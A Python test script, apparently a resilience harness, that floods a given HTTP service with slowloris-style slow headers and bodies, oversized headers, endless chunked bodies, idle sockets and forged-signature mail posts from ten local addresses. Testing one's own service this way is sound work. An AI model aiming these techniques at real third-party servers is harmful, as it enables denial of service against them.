"""Whoever has no key and wants the service gone: ``python -m tests.attacker URL CONNECTIONS [KIND…]``.

So many connections of every kind at once, from ten addresses; each that is hung up on comes again.
"""

from __future__ import annotations

import asyncio
import itertools
import sys
import time
from collections.abc import Awaitable, Callable, Sequence
from typing import Final
from urllib.parse import urlsplit

import uvloop

AGAIN = 0.5
PIECE = b"x" * 65_536


class Wire:
    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer

    async def say(self, raw: bytes) -> None:
        self.writer.write(raw)
        await self.writer.drain()

    async def until_hung_up_on(self) -> None:
        while await self.reader.read(65_536):
            pass


def post(path: str, *fields: str) -> bytes:
    return "\r\n".join([f"POST {path} HTTP/1.1", "Host: h", *fields, "", ""]).encode()


async def header_names(wire: Wire) -> None:
    await wire.say(b"GET / HTTP/1.1\r\n")
    for _ in range(384):  # 24 MB
        await wire.say(PIECE)


async def header_fields(wire: Wire) -> None:
    await wire.say(b"GET / HTTP/1.1\r\n")
    for _ in range(384):
        await wire.say(b"N: v\r\n" * 10_000)


async def trailers(wire: Wire) -> None:
    await wire.say(post("/v1/suspensions", "Transfer-Encoding: chunked") + b"0\r\n")
    for _ in range(384):
        await wire.say(PIECE)


async def silence(wire: Wire) -> None:
    await wire.until_hung_up_on()


async def slow_head(wire: Wire) -> None:
    for letter in itertools.cycle(b"GET / HTTP/1.1\r\nN: v"):
        await wire.say(bytes([letter]))
        await asyncio.sleep(1)


async def slow_body(wire: Wire) -> None:
    await wire.say(post("/v1/suspensions", "X-API-Key: guessed", f"Content-Length: {1024 * 1024}"))
    while True:
        await wire.say(b"x" * 1000)
        await asyncio.sleep(1)


async def mails_without_a_signature(wire: Wire) -> None:
    await wire.say(post("/email/inbound", f"Content-Length: {5 * 1024 * 1024}"))
    for _ in range(80):
        await wire.say(PIECE)


async def mails_with_a_forged_one(wire: Wire) -> None:
    signature = f"X-Handraise-Signature: t={int(time.time())},v1={'0' * 64}"
    await wire.say(post("/email/inbound", signature, f"Content-Length: {5 * 1024 * 1024}"))
    for _ in range(80):
        await wire.say(PIECE)


async def bodies_without_end(wire: Wire) -> None:
    await wire.say(post("/v1/suspensions", "X-API-Key: guessed", "Transfer-Encoding: chunked"))
    while True:
        await wire.say(b"10000\r\n" + PIECE + b"\r\n")


async def deaf(wire: Wire) -> None:
    wire.writer.transport.pause_reading()  # type: ignore[attr-defined]
    for _ in range(16):
        await wire.say(b"GET /openapi.json HTTP/1.1\r\nHost: h\r\n\r\n")
        await asyncio.sleep(1)
    await asyncio.sleep(30)


Kind = Callable[[Wire], Awaitable[None]]

KINDS: Final[tuple[Kind, ...]] = (
    *(header_names, header_fields, trailers, silence, slow_head, slow_body),
    *(mails_without_a_signature, mails_with_a_forged_one, bodies_without_end, deaf),
)


async def again_and_again(url: str, address: str, kind: Kind) -> None:
    parts = urlsplit(url)
    while True:
        try:
            connecting = asyncio.open_connection(parts.hostname, parts.port, local_addr=(address, 0))
            async with asyncio.timeout(60):
                wire = Wire(*await connecting)
                try:
                    await kind(wire)
                    await wire.until_hung_up_on()
                finally:
                    wire.writer.transport.abort()  # type: ignore[attr-defined]
        except (OSError, TimeoutError):
            pass
        await asyncio.sleep(AGAIN)


async def attack(url: str, connections: int, kinds: Sequence[Kind]) -> None:
    """Each kind from every address."""
    each = [(f"127.0.1.{number % 10 + 1}", kinds[number // 10 % len(kinds)]) for number in range(connections)]
    await asyncio.gather(*(again_and_again(url, address, kind) for address, kind in each))


if __name__ == "__main__":
    named = [kind for kind in KINDS if kind.__name__ in sys.argv[3:]]
    uvloop.run(attack(sys.argv[1], int(sys.argv[2]), named or KINDS))
